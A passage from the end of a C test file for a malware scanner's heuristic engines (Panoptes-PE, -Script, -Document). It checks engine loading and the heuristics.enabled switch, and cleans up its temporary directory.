				expect(&e, d, n, "pdf", PN_CAT_UNDETECTED, NULL, NULL, path);
			free(d);
		}
		if (f != NULL)
			pclose(f);
	}
	e.ops->free(&e);
}

static void
test_table(void)
{
	struct pn_engines set;
	size_t i;
	int pe = 0, sc = 0, dc = 0;

	pn_engines_load(&set, conf);
	for (i = 0; i < set.n; i++) {
		pe += strcmp(set.v[i]->name, "Panoptes-PE") == 0;
		sc += strcmp(set.v[i]->name, "Panoptes-Script") == 0;
		dc += strcmp(set.v[i]->name, "Panoptes-Document") == 0;
	}
	ok(pe == 1 && sc == 1 && dc == 1, "the engine set has Panoptes-PE, -Script and -Document");
	pn_engines_free(&set);
	pn_conf_put(conf, "heuristics.enabled", "false");
	pn_engines_load(&set, conf);
	for (i = 0, pe = 0; i < set.n; i++)
		pe += strncmp(set.v[i]->name, "Panoptes-", 9) == 0;
	is_int(pe, 0, "heuristics.enabled=false removes them");
	pn_engines_free(&set);
	pn_conf_put(conf, "heuristics.enabled", "true");
}

int
main(void)
{
	char tmpl[] = "/tmp/test_heur.XXXXXX";

	if (mkdtemp(tmpl) == NULL)
		return 1;
	pn_strlcpy(hdir, tmpl, sizeof(hdir));
	conf = pn_conf_new();
	pn_conf_put(conf, "clamav.enabled", "false");
	pn_conf_put(conf, "yara.enabled", "false");
	pn_conf_put(conf, "hashlist.enabled", "false");
	test_pe();
	test_script();
	test_doc();
	test_table();
	pn_conf_free(conf);
	{
		char cmd[512];
		snprintf(cmd, sizeof(cmd), "rm -rf '%s'", hdir);
		if (system(cmd) != 0)
			diag("could not remove %s", hdir);
	}
	return done_testing();
}
